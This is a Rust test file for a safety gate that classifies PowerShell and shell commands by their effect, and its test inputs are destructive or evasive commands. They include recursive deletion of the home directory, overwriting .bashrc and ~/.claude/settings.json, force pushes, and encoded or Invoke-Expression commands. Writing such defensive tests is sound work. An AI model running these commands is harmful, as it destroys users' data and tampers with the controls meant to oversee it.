use super::read;
use crate::gate::command::code::CodeEffect;

fn rm(path: &str, recursive: bool) -> CodeEffect {
    CodeEffect::Remove { path: path.into(), recursive }
}
fn write(path: &str) -> CodeEffect {
    CodeEffect::Write { path: path.into() }
}
fn run(command: &str) -> CodeEffect {
    CodeEffect::Run { command: command.into() }
}
fn opaque(text: &str) -> bool {
    read(text).iter().any(|e| matches!(e, CodeEffect::Opaque { .. }))
}

#[test]
fn removals_in_every_spelling() {
    for text in [
        "Remove-Item -Path ~ -Recurse -Force",
        "Remove-Item ~ -Recurse",
        "rm -r -fo ~",
        "del $HOME -Recurse",
        "ri -LiteralPath $env:USERPROFILE -Recurse -Force",
        "erase -Path $env:HOME -Rec",
        "remove-item -path '~' -recurse",
        "$h = $HOME; Remove-Item $h -Recurse",
        "Remove-Item -Path:~ -Recurse",
    ] {
        assert_eq!(read(text), [rm("~", true)], "{text}");
    }
    assert_eq!(read("Remove-Item C:\\work\\x"), [rm("/work/x", false)]);
    assert_eq!(read("Remove-Item C:\\Users\\x -Recurse"), [rm("/Users/x", true)]);
    assert_eq!(read("Remove-Item $env:APPDATA\\Code -Recurse"), [rm("~/AppData/Roaming/Code", true)]);
    assert_eq!(read("Remove-Item ~\\work -Recurse"), [rm("~/work", true)]);
    assert_eq!(read("rm a.txt, b.txt"), [rm("a.txt", false), rm("b.txt", false)]);
    assert_eq!(read("Remove-Item \"$HOME\\.gitvow\" -Recurse"), [rm("~/.gitvow", true)]);
    assert_eq!(read("Remove-Item (Join-Path $HOME .claude) -Recurse"), [rm("~/.claude", true)]);
}

#[test]
fn writes_moves_and_redirections() {
    assert_eq!(read("Set-Content -Path ~/.gitvow/policy.json -Value '{}'"), [write("~/.gitvow/policy.json")]);
    assert_eq!(read("'x' | Out-File $HOME\\.bashrc"), [write("~/.bashrc")]);
    assert_eq!(read("Add-Content .gitvow/policy.json 'x'"), [write(".gitvow/policy.json")]);
    assert_eq!(read("echo x > ~/.profile"), [write("~/.profile")]);
    assert_eq!(read("Get-Date >> log.txt 2>&1"), [write("log.txt")]);
    assert_eq!(read("git status 2> $null"), [run("git status")]);
    assert_eq!(read("New-Item -ItemType File -Path ~/.claude -Name settings.json"), [write("~/.claude/settings.json")]);
    assert_eq!(read("Copy-Item evil.json ~/.claude/settings.json"), [write("~/.claude/settings.json")]);
    assert_eq!(
        read("Move-Item -Path a.txt -Destination ~/.gitvow/policy.json"),
        [CodeEffect::Move { from: "a.txt".into(), to: "~/.gitvow/policy.json".into() }]
    );
    assert_eq!(
        read("Rename-Item ~/.gitvow/policy.json old.json"),
        [CodeEffect::Move { from: "~/.gitvow/policy.json".into(), to: "~/.gitvow/old.json".into() }]
    );
    assert_eq!(read("Clear-Content ~/.bashrc"), [write("~/.bashrc")]);
    assert_eq!(read("Invoke-WebRequest https://x/y -OutFile ~/.bashrc"), [write("~/.bashrc")]);
}

#[test]
fn native_commands_run() {
    assert_eq!(read("git push --force origin main"), [run("git push --force origin main")]);
    assert_eq!(read("cd src; git commit -m \"a message\""), [run("git commit -m 'a message'")]);
    assert_eq!(read("git commit -m $msg"), [run("git commit -m \"$msg\"")]);
    assert_eq!(read("& git push -f"), [run("git push -f")]);
    assert_eq!(read("& 'C:\\Program Files\\Git\\bin\\git.exe' push -f"), [run("git push -f")]);
    assert_eq!(read("cmd /c \"rd /s /q C:\\x\""), [run("'rd /s /q C:\\x'")]);
    assert_eq!(read("pwsh -Command \"Remove-Item ~ -Recurse\""), [rm("~", true)]);
    assert_eq!(read("Start-Process git -ArgumentList 'push -f'"), [run("git push -f")]);
    assert_eq!(read("if (Test-Path x) { Remove-Item x -Recurse } else { git push -f }"), [rm("x", true), run("git push -f")]);
    assert_eq!(read("Get-ChildItem | ForEach-Object { git push -f }"), [run("git push -f")]);
    assert_eq!(read("function f { Remove-Item ~ -Recurse }; f"), [rm("~", true), run("f")]);
}

#[test]
fn computed_and_hidden_is_opaque() {
    for text in [
        "iex 'Remove-Item ~ -Recurse'",
        "Invoke-Expression $cmd",
        "& $tool push -f",
        "& ('g' + 'it') push",
        "Start-Process $exe",
        "powershell -EncodedCommand UgBlAG0AbwB2AGUA",
        "pwsh -enc UgBlAG0A",
        "Remove-Item $target -Recurse",
        "Get-ChildItem ~ | Remove-Item -Recurse",
        "[System.IO.File]::Delete('x')",
        "[IO.Directory]::Delete($HOME, $true)",
        "$f.Delete()",
        "Do-Something -Path x",
        "Set-Alias ls Remove-Item",
        "Remove-Item $(Get-Location) -Recurse",
        ". ./script.ps1",
    ] {
        assert!(opaque(text), "{text}: {:?}", read(text));
    }
}

#[test]
fn reads_give_nothing() {
    for text in [
        "Get-ChildItem -Recurse src",
        "Get-Content ~/.gitvow/policy.json",
        "Write-Output 'Remove-Item ~ -Recurse'",
        "Select-String -Path *.rs -Pattern TODO",
        "Get-Process | Sort-Object CPU | Select-Object -First 5",
        "$x = 1 + 2; Write-Host $x",
        "# Remove-Item ~ -Recurse\nGet-Date",
        "Test-Path ~/.claude/settings.json",
    ] {
        assert_eq!(read(text), [], "{text}");
    }
}

#[test]
fn hostile_input_is_bounded() {
    let deep = "{".repeat(10_000);
    let _ = read(&deep);
    let nested = "$(".repeat(5_000);
    let _ = read(&nested);
    let long = "Remove-Item x; ".repeat(10_000);
    // Speed is bench/gate-worst.sh's to measure; this bound only catches a runaway (quadratic)
    // reader, loose enough for a loaded two-core machine running a debug build.
    let start = std::time::Instant::now();
    assert_eq!(read(&long), [rm("x", false)]);
    assert!(start.elapsed() < std::time::Duration::from_secs(5), "{:?}", start.elapsed());
    for junk in ["'", "\"", "`", "$(", "${", "@(", "<#", "&", "|", ">", "-"] {
        let _ = read(junk);
    }
}
